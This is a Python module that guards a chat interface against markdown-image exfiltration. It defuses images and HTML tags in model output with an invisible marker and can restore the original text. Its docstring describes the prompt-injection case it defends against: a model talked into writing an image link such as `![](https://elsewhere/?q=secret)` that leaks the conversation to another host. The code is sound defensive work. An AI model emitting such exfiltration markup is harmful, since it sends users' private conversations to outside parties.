"""Keep what a model writes from making the browser fetch anything.

A browser loads the image of `![](https://elsewhere/?q=secret)` without asking, so a model that was talked into writing one
could send the conversation away. `shield` turns such markup into text and links; `unshield` gives the model's own text back.
The server's Content-Security-Policy is the second wall.

The marker is U+2060 WORD JOINER: it has no width, and neither Markdown nor HTML reads `!⁠[` or `<⁠img` as markup.
"""

import re

MARK = "\u2060"

# marked.js's own rule for a fenced block, for fences at the left edge only: what it takes for code, nobody parses.
_FENCE = re.compile(
    r"^(?P<fence>`{3,}(?=[^`\n]*(?:\n|\Z))|~{3,})[^\n]*(?:\n|\Z)"
    r"(?:|[\s\S]*?(?:\n|\Z))(?: {0,3}(?P=fence)[~`]* *(?=\n|\Z)|\Z)",
    re.MULTILINE,
)
# A line like this may swallow the start of a fence (a formula, a link definition), so code after it is not trusted to be code.
_LINK_DEFINITION = re.compile(r"\]:")
_FORMULA_EDGES = (("\\(", "\\)"), ("\\[", "\\]"))

_IMAGE = re.compile(r"!\[([^\[\]\n`]*)\](?=\([^()\s`]+\))")
_IMAGE_SHOWN = re.compile(rf"\[{MARK}Image: ([^\[\]\n`]*){MARK}\]")
_IMAGE_START = re.compile(r"!(?=\[)")
# Tags that hold something to fetch, tags with attributes, and any tag that opens a line (an HTML block hides fences).
_TAG = re.compile(
    r"<(?=(?:/?(?:style|script|svg|math|title|template|textarea|xmp|plaintext|noscript|iframe)\b)"
    r"|[A-Za-z][^\s<>/:]*(?:\s+(?!/?>)|/(?!\s*>)))",
    re.IGNORECASE,
)
_TAG_AT_LINE_START = re.compile(r"^([\s>*+\-\d.)|]*)<(?=[A-Za-z/!?])", re.MULTILINE)


def shield(text: str) -> str:
    """The same text to the eye, with nothing in it that a browser would load by itself."""
    if "![" not in text and "<" not in text:
        return text
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    parts: list[str] = []
    prose_start = 0
    for fence in _FENCE.finditer(text):
        if not _hides_no_fence(text[: fence.start()]):
            break
        parts += [_shield_prose(text[prose_start : fence.start()]), fence.group()]
        prose_start = fence.end()
    parts.append(_shield_prose(text[prose_start:]))
    return "".join(parts)


def unshield(text: str) -> str:
    """What `shield` was given (line ends aside), so that a model reads its own words and not our markers."""
    if MARK not in text:
        return text
    text = _IMAGE_SHOWN.sub(r"![\1]", text)
    return text.replace(f"!{MARK}[", "![").replace(f"<{MARK}", "<")


def _hides_no_fence(prose: str) -> bool:
    balanced = all(prose.count(left) == prose.count(right) for left, right in _FORMULA_EDGES)
    return balanced and prose.count("$$") % 2 == 0 and not _LINK_DEFINITION.search(prose)


def _shield_prose(prose: str) -> str:
    prose = "\n".join(_name_images(line) for line in prose.split("\n"))
    prose = _IMAGE_START.sub(f"!{MARK}", prose)
    prose = _TAG_AT_LINE_START.sub(rf"\1<{MARK}", prose)
    return _TAG.sub(f"<{MARK}", prose)


def _name_images(line: str) -> str:
    """`![a cat](url)` reads `[Image: a cat](url)`, but not between backticks, where it should look like itself."""

    def named(image: re.Match[str]) -> str:
        in_code = line.count("`", 0, image.start()) % 2
        return image.group() if in_code else f"[{MARK}Image: {image.group(1)}{MARK}]"

    return _IMAGE.sub(named, line)
